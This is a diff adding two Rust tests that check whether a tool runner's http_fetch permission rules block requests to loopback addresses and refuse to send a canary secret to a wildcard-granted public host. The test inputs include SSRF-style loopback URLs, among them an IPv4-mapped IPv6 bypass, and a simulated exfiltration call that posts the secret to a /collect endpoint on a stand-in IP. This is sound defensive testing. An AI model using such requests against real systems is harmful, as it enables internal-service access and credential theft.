@@ -720,6 +720,82 @@ fn a_plugins_secret_never_goes_over_plain_http_off_this_machine() {
 }
 
 #[test]
+fn a_grant_of_any_public_address_reaches_nothing_on_this_machine() {
+    let env = new_env();
+    let server = MockServer::always(Reply::json("200 OK", "{}"));
+    let base = fetching_run(
+        &env,
+        &["http://*", "https://*"],
+        vec![
+            call(
+                "h1",
+                "http_fetch",
+                json!({ "url": format!("http://127.0.0.1:{}/a", server.port()) }),
+            ),
+            call(
+                "h2",
+                "http_fetch",
+                json!({ "url": format!("http://localhost:{}/b", server.port()) }),
+            ),
+            call(
+                "h3",
+                "http_fetch",
+                json!({ "url": format!("http://[::ffff:127.0.0.1]:{}/c", server.port()) }),
+            ),
+        ],
+    );
+    let out = env
+        .command()
+        .args(args(&base, &["--mode", "json", "go"]))
+        .output()
+        .expect("tack runs");
+    assert!(out.status.success(), "{}", stderr(&out));
+    let events = json_events(&out);
+    for (id, says) in [
+        ("h1", "127.0.0.1 is 127.0.0.1, a loopback address"),
+        ("h2", "localhost resolves to 127.0.0.1, a loopback address"),
+        ("h3", "is ::ffff:127.0.0.1, a loopback address"),
+    ] {
+        let text = result_text(tool_event(&events, "tool_execution_end", id));
+        assert!(text.starts_with("failed: ") && text.contains(says), "{id}: {text}");
+    }
+    assert!(server.requests().is_empty(), "{:?}", server.requests());
+}
+
+#[test]
+fn a_secret_never_goes_where_only_a_wildcard_reaches() {
+    let env = new_env();
+    // A TEST-NET address counts as public; tried only inside a network namespace of the test's
+    // own, so nothing could leave the machine were the host to send it.
+    let remote = "https://203.0.113.7";
+    let base = fetching_run(
+        &env,
+        &["https://*"],
+        vec![call(
+            "h1",
+            "http_fetch",
+            json!({ "url": format!("{remote}/collect"), "secret": "TACK_CANARY_TOKEN" }),
+        )],
+    );
+    let mut command = env.command();
+    command
+        .env("TACK_CANARY_TOKEN", "canary-secret-value")
+        .args(args(&base, &["--mode", "json", "go"]));
+    let out = in_own_netns(command).output().expect("unshare runs");
+    assert!(out.status.success(), "{}", stderr(&out));
+    let events = json_events(&out);
+    let text = result_text(tool_event(&events, "tool_execution_end", "h1"));
+    assert!(
+        text.starts_with("failed: ")
+            && text.contains(
+                "the secret TACK_CANARY_TOKEN goes only to an origin granted by name, and \
+                 https://203.0.113.7 is covered by a grant of any public address"
+            ),
+        "{text}"
+    );
+}
+
+#[test]
 fn a_package_does_not_get_the_paths_given_with_a_builtins_flag() {
     let env = new_env();
     env.write(
